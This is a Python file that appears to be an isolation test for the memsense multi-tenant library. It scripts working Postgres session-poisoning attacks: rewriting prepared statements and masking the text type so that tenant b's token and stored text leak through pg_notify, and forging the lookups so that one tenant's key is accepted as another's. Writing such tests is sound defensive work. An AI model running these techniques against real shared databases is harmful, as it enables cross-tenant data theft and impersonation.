"""SQL of tenant a in a session that a pool of one connection then lends to tenant b.

Run as a program, it is the process that is attacked: `python takeover.py URL KEY ATTACK` prints
what the attacker's session got. What leaves by NOTIFY reaches any other process of memsense_app.
"""

# pyright: reportPrivateUsage=false

import json
import re
import sys
from collections.abc import Callable
from contextlib import suppress
from typing import Any, LiteralString, cast

import psycopg
from embedders import HashingEmbedder

from memsense.client.tenants import Tenants
from memsense.config import Settings
from memsense.db import run_transaction
from memsense.errors import DatabaseError

Connection = psycopg.Connection[Any]

SPOILS = "(SELECT left(string_agg(user_text, '|'), 7000) FROM memsense.chunks)"
SPY = (
    "CREATE TEMP TABLE IF NOT EXISTS spoils (item pg_catalog.text);"
    " CREATE OR REPLACE FUNCTION pg_temp.leak(item pg_catalog.text) RETURNS boolean"
    " LANGUAGE plpgsql AS $$ BEGIN"
    " PERFORM pg_catalog.pg_notify('spoils', item);"
    " INSERT INTO pg_temp.spoils VALUES (item); RETURN true; END $$;"
)


def run(connection: Connection, statement: str) -> None:
    connection.execute(cast("LiteralString", statement))


def replace(connection: Connection, part: str, change: Callable[[str], str]) -> None:
    """Put changed statements in the place of the driver's prepared ones that have a part."""
    run(connection, SPY)
    rows = connection.execute(
        "SELECT name, statement, parameter_types::pg_catalog.text FROM pg_prepared_statements"
        " WHERE pg_catalog.strpos(statement, %s) > 0",
        [part],
    ).fetchall()
    assert rows, f"no prepared statement has {part}"
    for name, statement, types in rows:
        run(connection, f'DEALLOCATE "{name}"')
        listed = types.replace('"', "").replace("{", "(").replace("}", ")").replace("()", "")
        run(connection, f'PREPARE "{name}" {listed} AS {change(statement)}')


def steal_token(connection: Connection) -> None:
    def change(statement: str) -> str:
        place = re.search(r"set_config\('memsense.token', \$(\d+)", statement)
        assert place
        return statement.replace("SELECT", f"SELECT pg_temp.leak(${place[1]}), ", 1)

    replace(connection, "memsense.token", change)


def mask_type(connection: Connection) -> None:
    run(
        connection,
        SPY + " CREATE FUNCTION pg_temp.look(item pg_catalog.text) RETURNS boolean LANGUAGE sql AS"
        f" $$ SELECT pg_temp.leak(coalesce(item, '') || {SPOILS}) $$;"
        " CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.look(value));"
        " SET search_path = pg_temp, pg_catalog, public",
    )


def swap_read(connection: Connection) -> None:
    def change(statement: str) -> str:
        spy = f"spy AS (INSERT INTO pg_temp.spoils SELECT {SPOILS} RETURNING pg_temp.leak(item))"
        start, _, rest = statement.partition("WITH")
        is_with = start.strip() == "" or start.strip().endswith("*/")
        return f"WITH {spy}, {rest}" if rest and is_with else f"WITH {spy} {statement}"

    replace(connection, "memsense.chunks", change)


def answer_look_up(connection: Connection) -> None:
    """Let the process read b's number for tenant a, and so sign for it."""
    number = "(SELECT pg_catalog.current_setting('memsense_test.other', true)::integer)"
    replace(
        connection,
        "suspended_at FROM memsense.tenants",
        lambda it: it.replace("SELECT tenant_id", f"SELECT {number}", 1),
    )


def answer_key(connection: Connection) -> None:
    """Let the process read from a key of tenant a that it is one of tenant b."""
    replace(
        connection,
        "memsense.access_keys AS k",
        lambda it: it.replace("t.name AS tenant", "'b'::pg_catalog.text AS tenant", 1),
    )


LOOK_UP = "answer the look-up of one's own number"
ATTACKS = {
    "steal the token": steal_token,
    "mask a type": mask_type,
    "swap a read": swap_read,
    LOOK_UP: answer_look_up,
    "answer for one's access key": answer_key,
}


def attack(url: str, seal_key: str, name: str) -> list[str]:
    """Return all that tenant a sees of a session after tenant b has used it."""
    settings = Settings(
        database_url=url,
        tenant="a",
        worker="off",
        seal_key=seal_key,
        pool_min_size=1,
        pool_max_size=1,
    )
    seen: list[str] = []
    with Tenants.open(settings, embedder=HashingEmbedder()) as tenants:
        a, b = tenants.memory("a"), tenants.memory("b")
        pool = a._context.pool
        key = a.access_keys.create(["read"], name="attacker").text
        for _ in range(7):  # until the driver has prepared every statement
            for memory in (b, a):
                assert memory.search("tea green", user_id="ada")
                memory.recent(user_id="ada")
            assert tenants.verify(key)
        numbers = [memory._context.pool.tenant_id for memory in (a, b)]

        def smuggle(connection: Connection) -> None:
            # Numbers of tenants are small: an attacker would try them all.
            run(connection, f"SET memsense_test.other = '{numbers[1]}'")
            ATTACKS[name](connection)

        run_transaction(pool, smuggle)
        verified = tenants.verify(key)
        seen += [] if verified is None else [f"key of |{verified.tenant}"]
        for memory in (a, b, a):
            for call in (
                lambda it=memory: it.search("tea green", user_id="ada"),
                lambda it=memory: it.recent(user_id="ada"),
            ):
                try:
                    found = call()
                except DatabaseError as error:
                    seen.append(f"refused: {error}")
                else:
                    seen += [str(hit) for hit in found] if memory is a else []
        for rows in ("SELECT user_text FROM memsense.chunks", "SELECT item FROM pg_temp.spoils"):
            # There are no spoils if the session is another one, or has been cleaned.
            with suppress(DatabaseError):
                seen += run_transaction(
                    pool, lambda it, sql=rows: [text for (text,) in it.execute(sql)]
                )
    return seen


if __name__ == "__main__":
    sys.stdout.write(json.dumps(attack(*sys.argv[1:])))
